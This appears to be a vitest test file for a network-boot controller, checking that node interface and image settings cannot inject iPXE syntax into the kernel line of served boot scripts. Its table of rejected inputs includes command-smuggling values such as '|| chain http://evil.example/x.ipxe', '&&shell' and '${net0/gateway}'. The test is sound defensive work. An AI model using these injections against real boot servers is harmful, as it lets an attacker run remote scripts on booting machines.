/**
 * What a node's settings put on the `kernel` line of its iPXE script (`if.<name>=` interfaces, the
 * image) can carry no iPXE syntax: `a || chain http://evil/x.ipxe` or `${…}` on that line would
 * run commands or read settings in the node's iPXE. Refused at define and set, naming the node and
 * the offending text; the script then served has none of it. (An image's own command line is
 * refused at `image add`: files.test.ts.)
 */
import { expect, it } from 'vitest';
import { addImage, secureControllerForFile } from './secure-controller.js';

const controller = secureControllerForFile([], { httpPort: 0 });
const MAC = '52:54:00:00:07:01';

const ATTEMPTS: Array<[setting: string, refusal: string]> = [
  ['if.eth0=10.1.0.17/16,gw=${net0/gateway}', 'if.eth0: gateway "${net0/gateway}" must be an IPv4 address'],
  ['if.eth0=10.1.0.17/16 || chain http://evil.example/x.ipxe', 'if.eth0: address "10.1.0.17/16 || chain http://evil.example/x.ipxe" must be an IPv4 or IPv6 address'],
  ['if.eth0=dhcp,mtu=1500&&shell', 'if.eth0: mtu "1500&&shell" must be 68-65535'],
  ['if.eth0=10.1.0.17/16,gw=10.1.0.1|shell', 'if.eth0: gateway "10.1.0.1|shell" must be an IPv4 address'],
  ['if.e$th0=dhcp', 'if.e$th0: name "e$th0" must be an interface name'],
  ['if.eth0=10.1.0.17/16,vlan="5"', 'if.eth0: vlan ""5"" must be 1-4094'],
  ['image=compute||shell', 'image: "compute||shell": image id must start with a letter or digit'],
];

it('refuses iPXE syntax in every setting that reaches the kernel line, at define and at set, naming the node and the text', async () => {
  const c = controller();
  await addImage(c, 'compute');
  await c.admin.request('define', { range: 'n1', settings: [`mac=${MAC}`, 'image=compute', 'if.eth0=10.1.0.17/16,gw=10.1.0.1'] });

  const refused = (p: Promise<unknown>) => p.then(() => 'accepted', (err: Error) => err.message);
  for (const [setting, refusal] of ATTEMPTS) {
    expect(await refused(c.admin.request('set', { range: 'n1', settings: [setting] }))).toContain(`node n1: ${refusal}`);
    expect(await refused(c.admin.request('define', { range: 'n2', settings: [setting] }))).toContain(`node n2: ${refusal}`);
  }
  expect((await c.admin.request('nodes', {})).map((n) => n.node)).toEqual(['n1']);

  await c.admin.request('build', { range: 'n1' });
  const script = await (await fetch(`${c.running.httpUrl}/boot/${MAC}.ipxe`)).text();
  const kernel = script.split('\n').find((l) => l.startsWith('kernel '))!;
  expect(kernel).toContain('muster.if=eth0:10.1.0.17/16,gw=10.1.0.1');
  // muster's own BOOTIF expansion is the one `$` on the line, and `|| goto failed` its one chain.
  expect(kernel.replace('${net0/mac:hexhyp}', '').replace(' || goto failed', '')).not.toMatch(/[$|&"'\\]/);
});
